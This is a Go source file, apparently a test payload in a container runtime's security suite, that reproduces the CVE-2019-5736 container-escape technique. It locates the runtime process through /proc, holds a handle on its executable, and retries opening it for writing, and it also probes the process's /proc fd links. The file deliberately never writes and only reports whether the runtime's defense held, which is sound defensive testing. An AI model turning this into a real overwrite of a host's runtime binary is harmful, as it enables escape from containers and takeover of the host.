// exeattack is the CVE-2019-5736 attacker. It waits for a runtime process
// to appear in the container (one whose /proc/PID/exe is not this binary and
// whose command line starts with the pattern, "/proc/self/exe" by default:
// how runc-style runtimes re-execute themselves), keeps an O_PATH handle on
// its executable, and once the runtime has exited tries to reopen that
// handle for writing, retrying while the kernel says ETXTBSY.
//
// It never writes: a successful open is reported as OPENED-FOR-WRITE and the
// fd is closed at once, so a broken defense is detected without damaging
// the host's runtime binary. The single stdout line is the result token:
// OPENED-FOR-WRITE, an errno name (EACCES, EROFS, ETXTBSY, ...), NOTFOUND
// when no runtime process showed up, or TIMEOUT. A runtime process that
// showed up but whose exe could not be opened (a non-dumpable runc init
// gives EACCES) is reported with that errno: the defense held earlier.
//
// With -comm NAME the target is any process whose comm is NAME (the
// runtime's own init, "bulwark:init", which lives in the container's pid
// namespace for a moment during exec). Then the first refusal is final
// and reported at once, and before the exe the attacker tries to follow
// the links in /proc/PID/fd: one that can be read is reported as
// FDS-READABLE, because it would hand the container the runtime's files.
package main

import (
	"bytes"
	"errors"
	"flag"
	"fmt"
	"os"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"

	"github.com/bulwark-sec/bulwark/tests/payloads/internal/payload"
)

func main() {
	timeout := flag.Duration("timeout", 30*time.Second, "give up after this long")
	pattern := flag.String("pattern", "/proc/self/exe", "argv prefix of the runtime process to attack")
	comm := flag.String("comm", "", "attack processes with this comm instead of matching -pattern")
	flag.Parse()

	deadline := time.Now().Add(*timeout)
	self, _ := os.Readlink("/proc/self/exe")

	var fd, pid int
	var denied error
	for fd == 0 {
		if time.Now().After(deadline) {
			if denied != nil {
				fmt.Fprintf(os.Stderr, "exeattack: runtime process seen, its exe refused: %v\n", denied)
				fmt.Println(payload.ErrnoName(denied))
				return
			}
			fmt.Println("NOTFOUND")
			return
		}
		var err error
		if *comm != "" {
			pid, fd, err = findComm(self, *comm)
			if err == errFdsReadable {
				fmt.Println("FDS-READABLE")
				return
			}
			if err != nil {
				fmt.Fprintf(os.Stderr, "exeattack: comm %q process seen, refused: %v\n", *comm, err)
				fmt.Println(payload.ErrnoName(err))
				return
			}
		} else {
			pid, fd, err = find(self, *pattern)
		}
		if err != nil {
			denied = err
		}
		if fd == 0 {
			time.Sleep(time.Millisecond)
		}
	}
	target, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
	fmt.Fprintf(os.Stderr, "exeattack: holding exe of pid %d (%s) as fd %d\n", pid, target, fd)

	path := fmt.Sprintf("/proc/self/fd/%d", fd)
	attempts := 0
	for {
		attempts++
		w, err := unix.Open(path, unix.O_WRONLY|unix.O_CLOEXEC, 0)
		if err == nil {
			unix.Close(w)
			fmt.Fprintf(os.Stderr, "exeattack: opened %s for writing after %d attempts\n", target, attempts)
			fmt.Println("OPENED-FOR-WRITE")
			return
		}
		if err != unix.ETXTBSY {
			fmt.Fprintf(os.Stderr, "exeattack: %s after %d attempts\n", payload.ErrnoName(err), attempts)
			fmt.Println(payload.ErrnoName(err))
			return
		}
		if time.Now().After(deadline) {
			fmt.Fprintf(os.Stderr, "exeattack: still ETXTBSY after %d attempts\n", attempts)
			fmt.Println("TIMEOUT")
			return
		}
		time.Sleep(time.Millisecond)
	}
}

var errFdsReadable = errors.New("fd directory readable")

// findComm is find for -comm: the first process whose comm matches. Its fd
// directory is tried first (a listing, even an empty one, would mean the
// ptrace access check let us in), then its exe.
func findComm(self, comm string) (int, int, error) {
	ents, err := os.ReadDir("/proc")
	if err != nil {
		return 0, 0, nil
	}
	me := os.Getpid()
	// stillComm: the pid may have exec'd the payload since its comm was
	// read (execve makes it dumpable, leaves only the payload's fds and
	// swaps its exe). comm changes at that execve and never back, so if it
	// still names the runtime afterwards, what was read came from the
	// runtime.
	stillComm := func(pid int) bool {
		c, _ := os.ReadFile(fmt.Sprintf("/proc/%d/comm", pid))
		return strings.TrimSpace(string(c)) == comm
	}
procs:
	for _, e := range ents {
		pid, err := strconv.Atoi(e.Name())
		if err != nil || pid == me {
			continue
		}
		c, err := os.ReadFile(fmt.Sprintf("/proc/%d/comm", pid))
		if err != nil || strings.TrimSpace(string(c)) != comm {
			continue
		}
		// Listing the directory is not enough (root owns a non-dumpable
		// task's /proc entries); following one of its links is the leak.
		if fds, err := os.ReadDir(fmt.Sprintf("/proc/%d/fd", pid)); err == nil {
			for _, f := range fds {
				_, err := os.Readlink(fmt.Sprintf("/proc/%d/fd/%s", pid, f.Name()))
				if err == nil {
					if !stillComm(pid) {
						continue procs
					}
					return 0, 0, errFdsReadable
				}
				if !errors.Is(err, unix.ENOENT) && !errors.Is(err, unix.ESRCH) {
					return 0, 0, err
				}
			}
		} else if !errors.Is(err, unix.ENOENT) && !errors.Is(err, unix.ESRCH) {
			return 0, 0, err
		}
		exe := fmt.Sprintf("/proc/%d/exe", pid)
		t, err := os.Readlink(exe)
		if err != nil {
			if !os.IsNotExist(err) {
				return 0, 0, err
			}
			continue
		}
		if t == self {
			continue
		}
		fd, err := unix.Open(exe, unix.O_PATH|unix.O_CLOEXEC, 0)
		if err == nil {
			if !stillComm(pid) {
				unix.Close(fd)
				continue
			}
			return pid, fd, nil
		}
		if err != unix.ENOENT && err != unix.ESRCH {
			return 0, 0, err
		}
	}
	return 0, 0, nil
}

// find returns the pid and an O_PATH fd of the first matching process's
// executable, or the error that kept it from opening one. The handle must
// be taken while the process lives: afterwards /proc/PID/exe is gone.
func find(self, pattern string) (int, int, error) {
	ents, err := os.ReadDir("/proc")
	if err != nil {
		return 0, 0, nil
	}
	var denied error
	me := os.Getpid()
	for _, e := range ents {
		pid, err := strconv.Atoi(e.Name())
		if err != nil || pid == me {
			continue
		}
		cmdline, err := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid))
		if err != nil {
			continue
		}
		argv := strings.Join(strings.Split(string(bytes.TrimRight(cmdline, "\x00")), "\x00"), " ")
		if !strings.HasPrefix(argv, pattern) {
			continue
		}
		exe := fmt.Sprintf("/proc/%d/exe", pid)
		t, err := os.Readlink(exe)
		if err != nil {
			if !os.IsNotExist(err) {
				denied = err
			}
			continue
		}
		if t == self {
			continue
		}
		fd, err := unix.Open(exe, unix.O_PATH|unix.O_CLOEXEC, 0)
		if err == nil {
			return pid, fd, nil
		}
		if err != unix.ENOENT && err != unix.ESRCH {
			denied = err
		}
	}
	return 0, 0, denied
}
